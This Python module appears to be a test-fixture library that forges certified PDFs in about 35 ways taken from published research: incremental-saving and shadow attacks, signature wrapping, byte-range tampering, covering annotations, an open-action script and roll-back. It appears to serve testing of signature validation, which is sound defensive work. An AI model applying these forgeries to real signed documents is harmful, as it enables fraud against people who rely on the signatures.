"""The public tricks with signed PDF files, played on certified copies of our own.

Each takes a certified copy and gives what a forger would hand in. Names as in the literature: incremental saving (ISA),
signature wrapping (SWA), universal signature forgery (USF), Mladenov et al., 2019; shadow attacks, Mainka et al., 2021;
evil annotation and sneaky signature attacks, Rohlmann et al., 2021.
"""

import re
from collections.abc import Callable
from io import BytesIO

import pikepdf
from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.generic import NameObject, NumberObject, pdf_name
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
from pyhanko.pdf_utils.reader import PdfFileReader
from pyhanko.sign.fields import SigFieldSpec, append_signature_field

Attack = Callable[[bytes], bytes]

FORGED_TEXT = b"q 1 1 1 rg 0 0 595 842 re f Q BT /F1 40 Tf 72 500 Td (GIA MAO) Tj ET"


# ---------------------------------------------------------------- incremental saving


def isa_replaced_page(pdf: bytes) -> bytes:
    """Append a revision in which the first page shows something else."""
    writer = _writer(pdf)
    _page(writer)["/Contents"] = writer.add_object(generic.StreamObject(stream_data=FORGED_TEXT))
    writer.update_container(_page(writer))
    return _write(writer)


def isa_without_xref(pdf: bytes) -> bytes:
    """Append a changed page object with neither a cross-reference table nor a trailer."""
    number, generation = _page_number(pdf)
    body = b"\n%d %d obj\n<< /Type /Page /MediaBox [0 0 595 842] /Contents 9999 0 R >>\nendobj\n" % (number, generation)
    return (
        pdf + body + b"9999 0 obj\n<< /Length %d >>\nstream\n%s\nendstream\nendobj\n" % (len(FORGED_TEXT), FORGED_TEXT)
    )


def isa_without_trailer(pdf: bytes) -> bytes:
    """Append a changed page object and a table for it, but no trailer and no startxref."""
    changed = isa_without_xref(pdf)
    number, generation = _page_number(pdf)
    offset = changed.index(b"%d %d obj" % (number, generation), len(pdf))
    return changed + b"xref\n%d 1\n%010d %05d n \n" % (number, offset, generation)


def isa_with_copied_signature(pdf: bytes) -> bytes:
    """Append a changed page and, after it, a copy of the newest signature object."""
    start = pdf.rfind(b" obj", 0, pdf.rfind(b"/Contents <"))
    start = pdf.rfind(b"\n", 0, start) + 1
    copied = pdf[start : pdf.index(b"endobj", pdf.rfind(b"/Contents <")) + 6]
    return isa_replaced_page(pdf) + b"\n" + copied + b"\n%%EOF\n"


def malformed_xref(pdf: bytes) -> bytes:
    """Append a cross-reference table that no reader understands."""
    return pdf + b"\nxref\n0 9999999\nnonsense\ntrailer\n<< /Size -1 >>\nstartxref\n99999999999\n%%EOF\n"


def empty_update(pdf: bytes) -> bytes:
    """Append a well-formed revision that changes nothing."""
    end = int(re.findall(rb"startxref\s+(\d+)", pdf)[-1])
    reader = PdfFileReader(BytesIO(pdf))
    root = reader.trailer.raw_get("/Root").idnum
    size = int(reader.trailer["/Size"])
    trailer = b"trailer\n<< /Root %d 0 R /Size %d /Prev %d >>\n" % (root, size, end)
    return pdf + b"\nxref\n0 0\n" + trailer + b"startxref\n%d\n%%%%EOF\n" % (len(pdf) + 1)


def trailing_garbage(pdf: bytes) -> bytes:
    """Append bytes that mean nothing."""
    return pdf + b"\n% nothing to see here\n" + bytes(range(256)) * 8


def leading_garbage(pdf: bytes) -> bytes:
    """Put bytes before the header, which most readers skip."""
    return b"% nothing to see here\n" * 8 + pdf


def polyglot_tail(pdf: bytes) -> bytes:
    """Append a whole second PDF: some readers show the last, some the first."""
    other = (
        b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj 2 0 obj<</Type/Pages/Count 1/Kids[3 0 R]>>endobj "
        b"3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]>>endobj\ntrailer<</Root 1 0 R>>\n"
    )
    return pdf + b"\n" + other


# ---------------------------------------------------------------- shadow attacks


def shadow_hide(pdf: bytes) -> bytes:
    """Append a revision that takes an object away from the page, so that what it covered is seen."""
    writer = _writer(pdf)
    page = _page(writer)
    resources = page["/Resources"]
    for name in ("/XObject", "/Font"):
        if name in resources:
            resources[name] = generic.DictionaryObject()
    page["/Resources"] = generic.DictionaryObject(resources)
    writer.update_container(page)
    return _write(writer)


def shadow_replace(pdf: bytes) -> bytes:
    """Append a revision that swaps a font, so that the same text reads otherwise."""
    writer = _writer(pdf)
    page = _page(writer)
    font = generic.DictionaryObject(
        {
            pdf_name("/Type"): pdf_name("/Font"),
            pdf_name("/Subtype"): pdf_name("/Type1"),
            pdf_name("/BaseFont"): pdf_name("/Symbol"),
        }
    )
    fonts = generic.DictionaryObject(
        {NameObject(name): writer.add_object(font) for name in page["/Resources"].get("/Font", {"/F1": None})}
    )
    resources = generic.DictionaryObject(page["/Resources"])
    resources["/Font"] = fonts
    page["/Resources"] = resources
    writer.update_container(page)
    return _write(writer)


def shadow_hide_and_replace(pdf: bytes) -> bytes:
    """Append a revision whose catalog leads to other pages, the old ones left in the file."""
    writer = _writer(pdf)
    page = generic.DictionaryObject(
        {
            pdf_name("/Type"): pdf_name("/Page"),
            pdf_name("/MediaBox"): generic.ArrayObject(map(NumberObject, (0, 0, 595, 842))),
            pdf_name("/Contents"): writer.add_object(generic.StreamObject(stream_data=FORGED_TEXT)),
        }
    )
    pages = generic.DictionaryObject({pdf_name("/Type"): pdf_name("/Pages"), pdf_name("/Count"): NumberObject(1)})
    reference = writer.add_object(pages)
    page["/Parent"] = reference
    pages["/Kids"] = generic.ArrayObject([writer.add_object(page)])
    writer.root["/Pages"] = reference
    writer.update_root()
    return _write(writer)


def page_inserted(pdf: bytes) -> bytes:
    """Append a revision with one page more."""
    writer = _writer(pdf)
    content = writer.add_object(generic.StreamObject(stream_data=FORGED_TEXT))
    writer.insert_page(
        generic.DictionaryObject(
            {
                pdf_name("/Type"): pdf_name("/Page"),
                pdf_name("/MediaBox"): generic.ArrayObject(map(NumberObject, (0, 0, 595, 842))),
                pdf_name("/Contents"): content,
                pdf_name("/Resources"): generic.DictionaryObject(),
            }
        )
    )
    return _write(writer)


# ---------------------------------------------------------------- attacks on certification


def evil_annotation(pdf: bytes) -> bytes:
    """Append a text annotation that covers the page."""
    return _annotate(
        pdf,
        {
            "/Subtype": pdf_name("/FreeText"),
            "/Contents": generic.pdf_string("GIẢ MẠO"),
            "/DA": generic.pdf_string("/Helv 40 Tf"),
        },
    )


def stamp_annotation(pdf: bytes) -> bytes:
    """Append a stamp with an appearance of its own over the page."""
    writer = _writer(pdf)
    form = generic.StreamObject(stream_data=FORGED_TEXT)
    form["/Type"], form["/Subtype"] = pdf_name("/XObject"), pdf_name("/Form")
    form["/BBox"] = generic.ArrayObject(map(NumberObject, (0, 0, 595, 842)))
    appearance = generic.DictionaryObject({pdf_name("/N"): writer.add_object(form)})
    return _annotate(_write(writer), {"/Subtype": pdf_name("/Stamp"), "/AP": appearance}, writer)


def sneaky_signature(pdf: bytes) -> bytes:
    """Append an empty signature field whose appearance covers the page."""
    writer = _writer(pdf)
    append_signature_field(writer, SigFieldSpec("Sneaky", on_page=0, box=(0, 0, 595, 842)))
    field = writer.root["/AcroForm"]["/Fields"][-1]
    form = generic.StreamObject(stream_data=FORGED_TEXT)
    form["/Type"], form["/Subtype"] = pdf_name("/XObject"), pdf_name("/Form")
    form["/BBox"] = generic.ArrayObject(map(NumberObject, (0, 0, 595, 842)))
    field["/AP"] = generic.DictionaryObject({pdf_name("/N"): writer.add_object(form)})
    return _write(writer)


def repainted_signature(pdf: bytes) -> bytes:
    """Append a revision that gives a genuine signature's field another place and appearance."""
    writer = _writer(pdf)
    field = writer.root["/AcroForm"]["/Fields"][0].get_object()
    field["/Rect"] = generic.ArrayObject(map(NumberObject, (0, 0, 595, 842)))
    writer.update_container(field)
    return _write(writer)


# ---------------------------------------------------------------- other parts of the file


def replaced_metadata(pdf: bytes) -> bytes:
    """Append a revision with other metadata (XMP)."""
    writer = _writer(pdf)
    xmp = b'<?xpacket begin="" id="W5M0MpCehiHzreSzNTczkc9d"?><x:xmpmeta xmlns:x="adobe:ns:meta/"/><?xpacket end="w"?>'
    stream = generic.StreamObject(stream_data=xmp)
    stream["/Type"], stream["/Subtype"] = pdf_name("/Metadata"), pdf_name("/XML")
    writer.root["/Metadata"] = writer.add_object(stream)
    writer.update_root()
    return _write(writer)


def replaced_info(pdf: bytes) -> bytes:
    """Append a revision with another title in the information dictionary."""
    writer = _writer(pdf)
    info = generic.DictionaryObject({pdf_name("/Title"): generic.pdf_string("Giấy khác")})
    writer.set_info(writer.add_object(info))
    return _write(writer)


def added_script(pdf: bytes) -> bytes:
    """Append a script that runs when the file is opened."""
    writer = _writer(pdf)
    writer.root["/OpenAction"] = generic.DictionaryObject(
        {pdf_name("/S"): pdf_name("/JavaScript"), pdf_name("/JS"): generic.pdf_string("app.alert('x')")}
    )
    writer.update_root()
    return _write(writer)


def added_attachment(pdf: bytes) -> bytes:
    """Append an embedded file."""
    writer = _writer(pdf)
    file = writer.add_object(generic.StreamObject(stream_data=b"evil"))
    spec = generic.DictionaryObject(
        {pdf_name("/Type"): pdf_name("/Filespec"), pdf_name("/EF"): generic.DictionaryObject({pdf_name("/F"): file})}
    )
    names = generic.ArrayObject([generic.pdf_string("x"), writer.add_object(spec)])
    tree = generic.DictionaryObject({pdf_name("/Names"): names})
    writer.root["/Names"] = generic.DictionaryObject({pdf_name("/EmbeddedFiles"): tree})
    writer.update_root()
    return _write(writer)


# ---------------------------------------------------------------- signature wrapping and forgery


def signature_wrapping(pdf: bytes) -> bytes:
    """Move the last part of the signed bytes away and put other objects and a cross-reference table in its place.

    The readers find the table where the old one stood, and a signature object whose range leaves the new part out.
    """
    found = list(re.finditer(rb"/ByteRange ?\[(\d+) (\d+) (\d+) (\d+)\s*\]", pdf))[-1]
    _, first, second, tail = (int(number) for number in found.groups())
    old_table = int(re.findall(rb"startxref\s+(\d+)", pdf)[-1])
    start = pdf.rfind(b"\n", 0, pdf.rfind(b" obj", 0, first)) + 1
    number = int(pdf[start:].split(b" ", 1)[0])
    header, trailer = pdf[start:first], pdf[old_table:]
    root, size, previous = (int(re.findall(pattern, trailer)[-1]) for pattern in _TRAILER)
    page, generation = _page_number(pdf)
    body = b"\n%d %d obj\n<< /Type /Page /MediaBox [0 0 595 842] >>\nendobj\n" % (page, generation)
    wrapped = header + pdf[first:second] + b"\n/ByteRange [0 %d %%010d %d] >>\nendobj\n" % (first, tail)
    table = b"xref\n%d 1\n%010d 00000 n \n%d 1\n%010d 00000 n \n" % (page, second + 1, number, second + len(body))
    table += b"trailer\n<< /Root %d 0 R /Size %d /Prev %d >>\nstartxref\n%d\n%%%%EOF\n" % (
        root,
        size,
        previous,
        old_table,
    )
    filler = max(old_table - second - len(body) - len(wrapped) + 2, 0)
    inserted = body + wrapped + b"\n" * filler
    inserted = inserted[: old_table - second] if len(inserted) > old_table - second else inserted
    inserted += table
    moved = second + len(inserted)
    return pdf[:second] + inserted.replace(b"%010d", b"%010d" % moved) + pdf[second:]


def forged_byte_range(pdf: bytes) -> bytes:
    """Overwrite the newest signature's byte range by one that covers nothing."""
    found = list(re.finditer(rb"/ByteRange ?\[[^\]]*\]", pdf))[-1]
    return pdf[: found.start()] + b"/ByteRange [0 0 0 0]".ljust(len(found.group())) + pdf[found.end() :]


def negative_byte_range(pdf: bytes) -> bytes:
    """Overwrite the newest signature's byte range by a negative one."""
    found = list(re.finditer(rb"/ByteRange ?\[[^\]]*\]", pdf))[-1]
    return (
        pdf[: found.start()]
        + b"/ByteRange [0 -1 -9 -1]".ljust(len(found.group()))[: len(found.group())]
        + (pdf[found.end() :])
    )


def no_byte_range(pdf: bytes) -> bytes:
    """Append a revision whose signature objects have no byte range."""
    return _forge_signatures(pdf, lambda signature: signature.pop("/ByteRange"))


def no_contents(pdf: bytes) -> bytes:
    """Append a revision whose signature objects have no contents."""
    return _forge_signatures(pdf, lambda signature: signature.pop("/Contents"))


def null_contents(pdf: bytes) -> bytes:
    """Append a revision whose signature objects hold a zero byte."""
    return _forge_signatures(pdf, lambda s: s.update({pdf_name("/Contents"): generic.ByteStringObject(b"\x00")}))


def null_byte_range(pdf: bytes) -> bytes:
    """Append a revision whose signature objects have a null for a byte range."""
    return _forge_signatures(pdf, lambda s: s.update({pdf_name("/ByteRange"): generic.NullObject()}))


def no_signature_value(pdf: bytes) -> bytes:
    """Append a revision whose signature fields are empty."""
    writer = _writer(pdf)
    for reference in writer.root["/AcroForm"]["/Fields"]:
        field = reference.get_object()
        field.pop("/V", None)
        writer.update_container(field)
    return _write(writer)


def no_form(pdf: bytes) -> bytes:
    """Append a revision without a form, so that no signature is found."""
    writer = _writer(pdf)
    writer.root.pop("/AcroForm", None)
    writer.root.pop("/Perms", None)
    writer.update_root()
    return _write(writer)


# ---------------------------------------------------------------- roll-back


def revision_ends(pdf: bytes) -> list[int]:
    """Return where each revision ends."""
    return [found.end() for found in re.finditer(rb"startxref\s+\d+\s+%%EOF\r?\n?", pdf)]


def rolled_back_one(pdf: bytes) -> bytes:
    """Cut the newest revision off."""
    return pdf[: revision_ends(pdf)[-2]]


def rolled_back_two(pdf: bytes) -> bytes:
    """Cut two revisions off."""
    return pdf[: revision_ends(pdf)[-3]]


def rolled_back_to_unsigned(pdf: bytes) -> bytes:
    """Cut off all revisions but the first."""
    return pdf[: revision_ends(pdf)[0]]


def rewritten(pdf: bytes) -> bytes:
    """Write the file anew, as `save as` of a reader does."""
    buffer = BytesIO()
    pikepdf.open(BytesIO(pdf)).save(buffer)
    return buffer.getvalue()


def painted_over(pdf: bytes) -> bytes:
    """Write the file anew without signatures, with the same scans and code, and paint over the first page."""
    with pikepdf.open(BytesIO(pdf)) as document:
        page = document.pages[0]
        contents = page.obj.Contents
        streams = list(contents) if isinstance(contents, pikepdf.Array) else [contents]
        painted = document.make_stream(b"\nq 1 1 1 rg 150 380 300 120 re f Q\n")
        page.obj.Contents = pikepdf.Array([*streams, painted])
        for each in document.pages:
            each.obj.Annots = pikepdf.Array()
        for key in ("/AcroForm", "/Perms", "/DSS"):
            if key in document.Root:
                del document.Root[key]
        buffer = BytesIO()
        document.save(buffer)
    return buffer.getvalue()


ATTACKS: dict[str, Attack] = {
    attack.__name__: attack
    for attack in (
        shadow_hide,
        shadow_replace,
        shadow_hide_and_replace,
        isa_replaced_page,
        isa_without_xref,
        isa_without_trailer,
        isa_with_copied_signature,
        page_inserted,
        signature_wrapping,
        forged_byte_range,
        negative_byte_range,
        no_byte_range,
        null_byte_range,
        no_contents,
        null_contents,
        no_signature_value,
        no_form,
        evil_annotation,
        stamp_annotation,
        sneaky_signature,
        repainted_signature,
        replaced_metadata,
        replaced_info,
        added_script,
        added_attachment,
        empty_update,
        malformed_xref,
        trailing_garbage,
        leading_garbage,
        polyglot_tail,
        rolled_back_one,
        rolled_back_two,
        rolled_back_to_unsigned,
        rewritten,
        painted_over,
    )
}

_TRAILER = (rb"/Root (\d+) 0 R", rb"/Size (\d+)", rb"/Prev (\d+)")


def _writer(pdf: bytes) -> IncrementalPdfFileWriter:
    return IncrementalPdfFileWriter(BytesIO(pdf))


def _write(writer: IncrementalPdfFileWriter) -> bytes:
    output = BytesIO()
    writer.write(output)
    return output.getvalue()


def _page(writer: IncrementalPdfFileWriter) -> generic.DictionaryObject:
    return writer.find_page_for_modification(0)[0].get_object()


def _page_number(pdf: bytes) -> tuple[int, int]:
    reference = _writer(pdf).find_page_for_modification(0)[0]
    return reference.idnum, reference.generation


def _annotate(
    pdf: bytes, entries: dict[str, generic.PdfObject], writer: IncrementalPdfFileWriter | None = None
) -> bytes:
    writer = writer or _writer(pdf)
    annotation = generic.DictionaryObject({NameObject(name): value for name, value in entries.items()})
    annotation["/Type"] = pdf_name("/Annot")
    annotation["/Rect"] = generic.ArrayObject(map(NumberObject, (0, 0, 595, 842)))
    page = _page(writer)
    present = page.get("/Annots", ())
    page["/Annots"] = generic.ArrayObject([*present, writer.add_object(annotation)])
    writer.update_container(page)
    return _write(writer)


def _forge_signatures(pdf: bytes, change: Callable[[generic.DictionaryObject], object]) -> bytes:
    writer = _writer(pdf)
    page = _page(writer)
    page["/Contents"] = writer.add_object(generic.StreamObject(stream_data=FORGED_TEXT))
    writer.update_container(page)
    for reference in writer.root["/AcroForm"]["/Fields"]:
        signature = reference.get_object().raw_get("/V").get_object()
        change(signature)
        writer.update_container(signature)
    return _write(writer)
